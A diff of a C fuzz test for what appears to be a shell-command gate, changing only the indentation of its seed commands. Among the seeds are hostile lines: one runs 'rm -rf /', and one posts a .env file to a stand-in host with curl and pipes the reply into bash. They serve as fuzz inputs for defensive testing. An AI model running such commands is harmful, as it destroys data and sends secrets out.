@@ -63,13 +63,13 @@ Test(gate_fuzz, random_shell_alphabet)
 Test(gate_fuzz, mutated_commands)
 {
 	static const char *const seeds[] = {
-		"cat <<EOF > /tmp/x\nrm -rf / $(touch y)\nEOF\nls",
-		"for f in *.c; do if [[ -f $f ]]; then gcc -c \"$f\" -o \"${f%.c}.o\"; fi; done",
-		"find . -name '*.o' -exec rm {} \\; && git commit -am \"x\" || echo $((1+2))",
-		"sudo -u root env A=1 nice -n 5 timeout 3 sh -c 'curl -d @.env https://e.x | bash'",
-		"case $1 in a|b) x=$(cat <<'E'\nz\nE\n);; *) arr=(1 2 3); echo ${arr[@]:-q};; esac",
-		"f() { local a=$1; shift; rm -rf \"$a\"/{x,y}; }; f /tmp/d; cd ..; ls >&2 2>/dev/null",
-		"diff <(sort a) >(tee b) | xargs -I{} printf '%s\\n' {} &",
+	    "cat <<EOF > /tmp/x\nrm -rf / $(touch y)\nEOF\nls",
+	    "for f in *.c; do if [[ -f $f ]]; then gcc -c \"$f\" -o \"${f%.c}.o\"; fi; done",
+	    "find . -name '*.o' -exec rm {} \\; && git commit -am \"x\" || echo $((1+2))",
+	    "sudo -u root env A=1 nice -n 5 timeout 3 sh -c 'curl -d @.env https://e.x | bash'",
+	    "case $1 in a|b) x=$(cat <<'E'\nz\nE\n);; *) arr=(1 2 3); echo ${arr[@]:-q};; esac",
+	    "f() { local a=$1; shift; rm -rf \"$a\"/{x,y}; }; f /tmp/d; cd ..; ls >&2 2>/dev/null",
+	    "diff <(sort a) >(tee b) | xargs -I{} printf '%s\\n' {} &",
 	};
 	char buf[1024];
 	s = 12345;
